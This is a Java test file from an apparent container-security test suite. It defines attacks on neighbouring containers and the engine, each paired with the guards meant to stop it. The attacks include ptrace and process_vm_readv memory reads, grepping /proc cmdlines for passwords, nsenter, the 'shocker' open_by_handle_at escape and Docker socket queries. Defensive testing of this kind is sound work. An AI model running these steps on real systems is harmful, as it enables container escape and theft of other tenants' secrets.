package dev.hasp.testing.attack;

import dev.hasp.SecurityProfile;
import dev.hasp.control.BindMount;
import dev.hasp.control.IpcMode;
import dev.hasp.linux.Capability;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.HexFormat;
import java.util.List;

/** Reaching other containers, and the engine, by other ways than the network. */
final class NeighbourAttacks {

    /** ptrace(2) and wait(2). */
    private static final int SEIZE = 0x4206;

    private static final int INTERRUPT = 0x4207;
    private static final int PEEK = 2;
    private static final int ALL_CHILDREN = 0x40000000;

    private static final int SECRET = 24;

    private NeighbourAttacks() {}

    private static SecurityProfile among(Capability... capabilities) {
        return Weak.NEIGHBOUR_PROCESSES.toBuilder()
                .capabilities(Weak.with(capabilities).capabilities().orElseThrow())
                .build();
    }

    static List<Attack> all() {
        return List.of(
                Attack.named("process-memory", "reads the memory of a neighbour's process")
                        .source("process_vm_readv(2)")
                        .weak(Weak.NEIGHBOUR_PROCESSES)
                        .guards(Guards.pidNamespace(), Guards.user())
                        .program(p -> {
                            long buffer = p.room(SECRET);
                            p.call(
                                            "process_vm_readv",
                                            1,
                                            p.words(buffer, SECRET),
                                            1,
                                            p.words(CallProgram.DATA, SECRET),
                                            1,
                                            0)
                                    .call("write", 1, buffer, SECRET);
                        })
                        .script("run; seen \"$out\" 'secret of the neighbour'\n"),
                Attack.named("ptrace", "stops a neighbour's process and reads its memory word by word")
                        .source("ptrace(2)")
                        .weak(Weak.NEIGHBOUR_PROCESSES)
                        .guards(Guards.pidNamespace(), Guards.user())
                        .program(p -> {
                            long buffer = p.room(SECRET);
                            p.call("ptrace", SEIZE, 1, 0, 0).call("ptrace", INTERRUPT, 1, 0, 0);
                            p.call("wait4", 1, 0, ALL_CHILDREN, 0);
                            for (int i = 0; i < SECRET; i += 8) {
                                p.call("ptrace", PEEK, 1, CallProgram.DATA + i, buffer + i);
                            }
                            p.call("write", 1, buffer, SECRET);
                        })
                        .script("run; seen \"$out\" 'secret of the neighbour'\n"),
                Attack.named("stop-process", "stops a neighbour's process, and lets it go on")
                        .source("kill(2)")
                        .weak(Weak.NEIGHBOUR_PROCESSES)
                        .guards(Guards.pidNamespace(), Guards.user())
                        .script("""
                                job=$(pidof neighbour-job) || { echo 'no such process in sight'; exit; }
                                out=$(kill -STOP $job 2>&1)
                                i=0
                                while [ -z "$out" ] && [ $i -lt 100 ]; do
                                    i=$((i + 1))
                                    state=$(cut -d ' ' -f 3 /proc/$job/stat)
                                    [ "$state" = T ] && echo 'effect: state T, stopped' && break
                                    usleep 20000
                                done
                                echo "${out:-state $state}"
                                kill -CONT $job 2>/dev/null
                                """),
                Attack.named("command-lines", "reads the arguments of a neighbour's processes")
                        .source("proc(5), /proc/pid/cmdline")
                        .weak(Weak.NEIGHBOUR_PROCESSES)
                        .guards(Guards.pidNamespace())
                        .script("""
                                seen "$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep '^--password')" \\
                                    'secret of the neighbour'
                                echo "nothing in $(ls -d /proc/[0-9]* | wc -l) command lines"
                                """),
                Attack.named("magic-link", "opens a neighbour's file through /proc/1/root")
                        .source("proc(5), /proc/pid/root; path_resolution(7)")
                        .weak(Weak.NEIGHBOUR_PROCESSES)
                        .guards(Guards.pidNamespace(), Guards.user())
                        .script("seen \"$(cat /proc/1/root/secret 2>&1)\" 'secret of the neighbour'\n"),
                Attack.named("enter-namespace", "enters a neighbour's mount namespace and reads its file")
                        .source("setns(2), EPERM")
                        .weak(among(Capability.SYS_ADMIN))
                        .guards(Guards.pidNamespace(), Guards.without(Capability.SYS_ADMIN), Guards.user())
                        .script("seen \"$(nsenter -t 1 -m cat /secret 2>&1)\" 'secret of the neighbour'\n"),
                Attack.named("shared-memory", "reads what a neighbour keeps in shared memory")
                        .source("shm_overview(7); ipc_namespaces(7)")
                        .weak(Weak.BASE.toBuilder()
                                .ipc(IpcMode.container(AttackRange.NEIGHBOUR))
                                .build())
                        .guards(Guards.ipcNamespace(), Guards.user())
                        .script("seen \"$(cat /dev/shm/secret 2>&1)\" 'secret of the neighbour'\n"),
                Attack.named("open-by-handle", "opens a file that is mounted nowhere, by its number on the disk")
                        .source("open_by_handle_at(2); the escape of June 2014 known as shocker")
                        .weak(Weak.with(Capability.DAC_READ_SEARCH))
                        .guards(Guards.without(Capability.DAC_READ_SEARCH), Guards.user())
                        .programFor((targets, p) -> {
                            long handle = p.bytes(HexFormat.of().parseHex(targets.handle()));
                            long buffer = p.room(64);
                            p.call("open", p.text("/etc/hosts"), 0, 0)
                                    .call("open_by_handle_at", 3, handle, 0)
                                    .call("read", 4, buffer, 64)
                                    .call("write", 1, buffer, 64);
                        })
                        .script("""
                                [ -n "$HANDLE" ] || { echo 'not triable: the file system has no handles'; exit; }
                                run; seen "$out" 'secret of the vault'
                                """),
                Attack.named("engine-socket", "asks the engine for its containers through its socket")
                        .source("CIS Docker Benchmark 1.6.0, 5.32; OWASP Docker Security Cheat Sheet, rule 1")
                        .weak(Weak.BASE.toBuilder()
                                .mounts(BindMount.builder()
                                        .source(AttackRange.SOCKET)
                                        .target(AttackRange.SOCKET)
                                        .build())
                                .build())
                        .guards(Guards.noMount(AttackRange.SOCKET), Guards.user())
                        .program(p -> {
                            String request = "GET /containers/json HTTP/1.0\r\n\r\n";
                            long buffer = p.room(256);
                            p.call("socket", 1, 1, 0)
                                    .call("connect", 3, unixAddress(p, AttackRange.SOCKET), 110)
                                    .call("write", 3, p.text(request), request.length())
                                    .call("read", 3, buffer, 256)
                                    .call("write", 1, buffer, 256);
                        })
                        .script("run; seen \"$(echo \"$out\" | head -n 1)\" '200 OK'\n"));
    }

    /** A {@code struct sockaddr_un} (unix(7)). */
    static long unixAddress(CallProgram program, String path) {
        ByteBuffer address = ByteBuffer.allocate(110).order(ByteOrder.LITTLE_ENDIAN);
        address.putShort((short) 1).put(path.getBytes(StandardCharsets.UTF_8));
        return program.bytes(address.array());
    }
}
